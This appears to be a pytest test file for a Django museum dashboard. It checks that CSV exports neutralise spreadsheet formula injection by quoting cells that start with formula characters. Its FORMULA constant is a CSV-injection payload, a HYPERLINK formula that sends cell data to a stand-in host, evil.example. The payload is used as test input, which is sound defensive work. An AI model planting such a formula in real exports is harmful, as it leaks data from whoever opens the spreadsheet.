"""Every CSV and XLSX export neutralises what a spreadsheet would run as a formula."""

import datetime

import pytest
from django.urls import reverse
from django.utils import translation

from core.exports import neutral
from tests.dashboards.factories import MONTH, member, rebuilt, visits
from tests.museumpas.factories import MuseumFactory
from tests.support.exports import read_csv

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
# NPS -20: two promoters, four passives, four detractors.
MINUS_TWENTY = [10, 10, 8, 8, 8, 8, 0, 3, 5, 6]


@pytest.fixture(autouse=True)
def _english(client):
    client.cookies["django_language"] = "en"
    with translation.override("en"):
        yield


def read(response) -> list[list[str]]:
    return read_csv(response, delimiter=",")  # English: the comma


def test_a_text_starting_like_a_formula_gets_a_quote_and_numbers_stay_numbers():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutral(f"{start}1+1") == f"'{start}1+1"
    assert neutral("Mooi = goed") == "Mooi = goed"
    assert neutral("") == ""
    assert neutral(-20) == -20 and neutral(-2.5) == -2.5 and neutral(None) is None
    assert neutral(datetime.date(2026, 3, 1)) == "2026-03-01"


def test_the_dashboards_csv_neutralises_a_comment_and_keeps_a_negative_nps(
    client, charlie, survey_data
):
    museum = MuseumFactory(name=FORMULA)
    member(charlie, museum)
    survey_data.responses(museum, 10, nps=MINUS_TWENTY, text=FORMULA)
    rebuilt()
    client.force_login(charlie)
    query = {"period": "month", "from": "2026-03"}
    comments = read(
        client.get(reverse("dashboards:museum-csv", args=[museum.pk, "comments"]), query)
    )
    assert [row[1] for row in comments[1:]] == [f"'{FORMULA} {index}" for index in range(9, -1, -1)]
    nps = read(client.get(reverse("dashboards:museum-csv", args=[museum.pk, "nps"]), query))
    assert nps[1] == ["NPS", "-20"]
    assert nps[4] == ["Detractors (%)", "40.0"]


def test_the_staff_overview_csv_neutralises_a_museum_name(client, sofie, survey_data):
    museum = MuseumFactory(name=FORMULA, city="@Gent")
    visits(museum, 12)
    survey_data.responses(museum, 10, nps=MINUS_TWENTY)
    rebuilt()
    client.force_login(sofie)
    query = {"period": "month", "from": "2026-03", "export": "csv"}
    rows = read(client.get(reverse("dashboards:staff"), query))
    assert rows[1][:2] == [f"'{FORMULA}", "'@Gent"]
    assert rows[1][-2] == "-20"


def test_the_comparison_csv_neutralises_a_museum_name(client, alice):
    museum = MuseumFactory(name=FORMULA)
    visits(museum, 10, day=MONTH)
    rebuilt()
    client.force_login(alice)
    query = {
        "before_from": "2026-02-01",
        "before_to": "2026-02-28",
        "during_from": "2026-03-01",
        "during_to": "2026-03-31",
        "after_from": "2026-04-01",
        "after_to": "2026-04-30",
        "export": "per-museum",
    }
    rows = read(client.get(reverse("dashboards:comparison"), query))
    assert rows[0][0] == "Museum"
    assert [row[0] for row in rows[1:]] == [f"'{FORMULA}"]
    assert rows[1][1:4] == ["0.0", "0.3", "0.0"]
